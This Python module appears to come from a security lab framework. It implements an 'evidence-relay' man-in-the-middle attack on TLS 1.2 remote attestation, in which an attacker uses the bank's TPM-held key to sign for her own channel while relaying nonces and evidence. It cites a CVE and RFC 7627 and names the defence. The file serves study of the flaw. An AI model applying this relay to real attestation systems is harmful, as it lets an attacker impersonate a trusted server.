"""`evidence-relay-ecdhe`: `evidence-relay` on TLS 1.2, where both ends ask and answer inside the channel.

Alice ends the teller's TLS with the bank's certificate, for which the bank's TPM signs. She copies both randoms and
forwards every frame. Only the two handshakes differ.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from trustlab.attacks.alice.applications import Quiet
from trustlab.attacks.alice.borrowed_key import BorrowedKey
from trustlab.attacks.alice.legs import Credentials, TowardsServer
from trustlab.attacks.alice.middle import Middle
from trustlab.attacks.alice.tools import Alice
from trustlab.attacks.attack import Assumptions, Attack

if TYPE_CHECKING:
    from trustlab.cloud import Guest
    from trustlab.wire import WireConnection

ATTACK = Attack(
    name="evidence-relay-ecdhe",
    needs=("owns the network between the VMs", "can use the bank's TLS key, though it never leaves the TPM"),
    steps=(
        "connects to the bank as anybody may, for its certificate",
        "answers the teller's connection with it, and opens her own connection to the bank",
        "has the bank's TPM sign for her channel, and forwards nonces and evidence",
    ),
    breaks="trust",
    why="The evidence is fresh and names the key, but the key signs for two channels.",
    source="CVE-2026-33697; RFC 7627",
    stopped_by="the session hash in the binder; or a key nobody else can use",
    assumes=Assumptions(leaks=("key usable",)),
    tls="1.2",
)


def start(guest: Guest) -> None:
    """Get the bank's certificate; then sit between teller and bank with it."""
    alice = Alice(guest, ATTACK)
    looked: list[TowardsServer] = []

    def look(name: str) -> TowardsServer:
        looked.append(TowardsServer(alice, name, Quiet(), learned=leave))
        return looked[0]

    def leave() -> None:
        if looked[0].ready:
            looked[0].close()

    alice.connect(look)
    alice.tell("look", f"connects to {alice.victim} as anybody may, for its certificate.")
    key = BorrowedKey(alice)

    def answer(connection: WireConnection) -> Middle:
        own = Credentials(looked[0].connection.peer_certificates[:1], key)
        return Middle(alice, connection, own=own)

    alice.take_place(answer)
    alice.tell("relay", "waits for the teller, with the bank's own certificate.")
